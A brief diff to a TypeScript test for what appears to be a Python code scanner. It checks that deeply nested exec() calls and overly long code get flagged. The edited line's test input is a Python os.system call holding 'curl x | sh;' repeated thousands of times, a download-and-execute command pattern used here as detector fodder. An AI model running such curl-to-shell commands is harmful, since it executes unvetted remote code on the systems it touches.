@@ -33,5 +33,5 @@ it('says so of code in code that is too deep or too long', () => {
   const nested = (depth: number): string => Array.from({ length: depth }).reduce<string>((code) => `exec(${JSON.stringify(code)})`, 'import os')
   expect(told(analysePythonFiles, nested(2))).toBe(0)
   expect(told(analysePythonFiles, nested(3))).toBe(1)
-  expect(told(analysePythonFiles, `import os\nos.system("${'curl;'.repeat(50_001)}")\n`)).toBe(1)
+  expect(told(analysePythonFiles, `import os\nos.system("${'curl x | sh;'.repeat(20_001)}")\n`)).toBe(1)
 })
